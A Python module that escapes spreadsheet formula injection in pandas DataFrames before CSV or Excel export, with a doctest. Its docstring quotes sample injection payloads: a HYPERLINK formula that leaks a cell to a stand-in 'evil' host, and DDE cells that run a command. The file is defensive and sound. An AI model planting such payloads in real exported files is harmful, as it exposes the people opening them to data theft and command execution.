"""Cells a spreadsheet would run: neutralised before a release is written as CSV or Excel.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1)``,
``+cmd|' /C calc'!A0``, ``@SUM(1+1)*cmd|...``): opened, it can leak other cells or run a
command (OWASP, "CSV Injection"). As OWASP advises, such a cell is written with a leading
apostrophe, which a spreadsheet shows as text. Plain numbers (``-5``, ``+3.2e4``) are left
alone. So that escaping never makes two different values equal (which would change the
release's equivalence classes), a cell that already begins with apostrophes before such a
character gains one more: the escaped release has exactly the classes of the unescaped one.
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
TRIGGERS = "=+-@\t\r"
_RUNS = "^'*[=+\\-@\\t\\r]"
_NUMBER = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [
        name
        for name in frame.columns
        if frame[name].dtype == object or pd.api.types.is_string_dtype(frame[name].dtype)
    ]


def escape_formulas(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """``frame`` with every text cell a spreadsheet would run as a formula prefixed by an
    apostrophe, and how many cells were escaped (``frame`` itself is never changed).

    >>> import pandas as pd
    >>> escaped, n = escape_formulas(pd.DataFrame({"note": ["=1+1", "-5", "+1-875-988-3835"]}))
    >>> escaped["note"].tolist(), n
    (["'=1+1", '-5', "'+1-875-988-3835"], 2)
    """
    out = frame
    total = 0
    for name in _text_columns(frame):
        series = frame[name]
        values = series.to_numpy(dtype=object)
        is_text = np.fromiter((isinstance(v, str) for v in values), bool, len(values))
        if not is_text.any():
            continue
        text = pa.array([v if t else None for v, t in zip(values, is_text, strict=True)],
                        type=pa.string())  # fmt: skip
        runs = pc.and_not(
            pc.match_substring_regex(text, _RUNS), pc.match_substring_regex(text, _NUMBER)
        )
        hits = pc.fill_null(runs, False).to_numpy(zero_copy_only=False)
        count = int(hits.sum())
        if not count:
            continue
        if out is frame:
            out = frame.copy(deep=False)
        escaped = values.copy()
        escaped[hits] = ["'" + v for v in values[hits]]
        out[name] = pd.Series(escaped, index=series.index, name=name, dtype=series.dtype)
        total += count
    return out, total
